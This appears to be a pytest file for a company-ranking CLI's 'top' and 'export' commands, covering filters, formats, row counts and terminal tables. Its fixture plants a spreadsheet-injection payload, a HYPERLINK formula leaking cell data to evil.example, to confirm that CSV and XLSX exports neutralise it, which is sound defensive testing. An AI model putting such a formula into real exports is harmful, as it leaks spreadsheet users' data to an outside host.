"""`ose top` and `ose export` over a synthetic serving copy: filters, formats, row counts, formula-safe cells,
a table that fits the terminal."""

from __future__ import annotations

import csv
import json

import duckdb
import openpyxl
import polars as pl
import pytest

from ose_assets.api.export import formula_safe
from ose_assets.benchmarks.synthetic_serving import build_serving_copy
from ose_assets.cli import main
from ose_assets.settings import OSESettings

COMPANIES = 120
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'


@pytest.fixture(scope="module")
def served(tmp_path_factory) -> tuple[OSESettings, pl.DataFrame]:
    settings = OSESettings(data_dir=tmp_path_factory.mktemp("cli_ranking"))
    scores = build_serving_copy(settings.serving_path, companies=COMPANIES, model_version="1")
    with duckdb.connect(str(settings.serving_path)) as con:
        first = scores.filter(pl.col("is_eligible")).sort("rank")["siren"][0]
        con.execute("update company_scores set name = ? where siren = ?", [HOSTILE_NAME, first])
        con.execute("update company_scores set naf_label = '-1+1' where siren <> ?", [first])
    return settings, scores


@pytest.fixture
def ose(served, monkeypatch, capsys):
    """Run `ose ARGS --data-dir D` in process; returns (exit code, stdout, stderr)."""
    # settings_for exports these for the Dagster code it may load: restored after the test.
    monkeypatch.setenv("OSE_DATA_DIR", str(served[0].data_dir))
    monkeypatch.setenv("DAGSTER_HOME", str(served[0].dagster_home))

    def run(*args: str) -> tuple[int, str, str]:
        code = 0
        try:
            main([*args, "--data-dir", str(served[0].data_dir)])
        except SystemExit as exit_:
            code = exit_.code or 0
        out, err = capsys.readouterr()
        return code, out, err

    return run


def ranked(scores: pl.DataFrame, **filters) -> list[str]:
    frame = scores.filter(pl.col("is_eligible"), pl.col("rank").is_not_null())
    for column, value in filters.items():
        frame = frame.filter(pl.col(column) == value)
    return frame.sort("rank")["siren"].to_list()


@pytest.mark.parametrize(
    ("args", "filters", "limit"),
    [
        ((), {}, 10),
        (("--region", "53"), {"region_code": "53"}, 10),
        (("--region", "bretagne", "--limit", "3"), {"region_code": "53"}, 3),
        (("--naf-section", "j", "--limit", "25"), {"naf_section": "J"}, 25),
        (("--region", "11", "--naf-section", "C"), {"region_code": "11", "naf_section": "C"}, 10),
    ],
)
def test_top_json_follows_the_filters(ose, served, args, filters, limit):
    code, out, _ = ose("top", *args, "--format", "json")
    assert code == 0
    document = json.loads(out)
    assert [item["siren"] for item in document["items"]] == ranked(served[1], **filters)[:limit]
    assert document["model_version"] == "1" and document["items"]


def test_top_csv_is_formula_safe(ose, served):
    code, out, _ = ose("top", "--format", "csv", "--limit", "5")
    rows = list(csv.DictReader(out.splitlines()))
    assert code == 0 and len(rows) == 5
    assert rows[0]["name"] == "'" + HOSTILE_NAME


def test_top_unknown_filter_values_fail_listing_the_accepted_ones(ose):
    code, _, err = ose("top", "--region", "99")
    assert code == 1 and "unknown région '99'" in err and "53 (Bretagne)" in err
    code, _, err = ose("top", "--naf-section", "Z")
    assert code == 1 and "unknown NAF section 'Z'" in err


@pytest.mark.parametrize(
    ("lang", "header", "other"), [("fr", "Raison principale", "Top reason"), ("en", "Top reason", "Raison")]
)
def test_top_table_fits_the_terminal_in_one_language_with_names_and_full_reasons(
    ose, served, monkeypatch, lang, header, other
):
    monkeypatch.setenv("COLUMNS", "100")
    code, out, _ = ose("top", "--lang", lang)
    assert code == 0
    lines = out.splitlines()
    assert max(len(line) for line in lines) <= 100
    assert header in out and other not in out
    top = served[1].filter(pl.col("siren") == ranked(served[1])[1]).row(0, named=True)
    assert top["region_name"] in out and top["siren"] in out
    with duckdb.connect(str(served[0].serving_path), read_only=True) as con:
        reason = con.execute(
            f"select reason_{lang} from score_reasons "
            "where siren = ? and direction = 'up' and reason_rank = 1",
            [top["siren"]],
        ).fetchone()[0]
    start = next(line for line in lines if header in line).index(header)
    column = " ".join(line[start:].strip() for line in lines)
    assert " ".join(reason.split()) in " ".join(column.split()), "the top reason is printed in full"


@pytest.mark.parametrize("fmt", ["csv", "parquet", "xlsx"])
def test_export_writes_every_scored_company_with_reasons(ose, served, tmp_path, fmt):
    out = tmp_path / f"scores.{fmt}"
    code, stdout, _ = ose("export", "--format", fmt, "--out", str(out))
    assert code == 0 and f"{COMPANIES:,} companies" in stdout
    with duckdb.connect(str(served[0].serving_path), read_only=True) as con:
        expected = con.execute("select count(*) from company_scores").fetchone()[0]
    if fmt == "csv":
        frame = pl.read_csv(out, infer_schema=False)
    elif fmt == "parquet":
        frame = pl.read_parquet(out)
    else:
        sheet = openpyxl.load_workbook(out, read_only=True)["company_scores"]
        rows = list(sheet.iter_rows(values_only=True))
        frame = pl.DataFrame(rows[1:], schema=list(rows[0]), orient="row", infer_schema_length=None)
    assert frame.height == expected == COMPANIES
    assert {"reasons_for", "reasons_against", "top_reason_evidence"} <= set(frame.columns)
    assert frame["reasons_for"].null_count() < frame.height
    names = set(frame["name"])
    if fmt == "parquet":  # typed data for analysts, not a spreadsheet: kept verbatim
        assert HOSTILE_NAME in names
    else:
        assert "'" + HOSTILE_NAME in names and HOSTILE_NAME not in names
        assert "'-1+1" in set(frame["naf_label"]) and "-1+1" not in set(frame["naf_label"])
    if fmt == "xlsx":
        workbook = openpyxl.load_workbook(out)
        assert not any(
            cell.data_type == "f" for row in workbook["company_scores"].iter_rows() for cell in row
        ), "no cell is a formula"


def test_formula_safe_contract():
    assert [formula_safe(v) for v in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", 3, None)] == [
        "'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", 3, None,
    ]  # fmt: skip


def test_evidence_is_dated_and_sourced_in_the_output_language():
    from ose_assets.cli.ranking import evidence_text

    evidence = json.dumps(
        [
            {"kind": "signal", "id": "FT-1", "url": "https://x/1", "date": "2026-01-07", "type": "hiring"},
            {
                "kind": "bodacc",
                "id": "C2026",
                "url": "https://x/2",
                "date": "2026-05-03",
                "type": "capital_increase",
            },
        ]
    )
    assert evidence_text(evidence, "fr") == "2026-05-03 · augmentation de capital · BODACC C2026"
    assert evidence_text(evidence, "en") == "2026-05-03 · capital increase · BODACC C2026"
    assert evidence_text("[]", "fr") == "" and evidence_text(None, "en") == ""
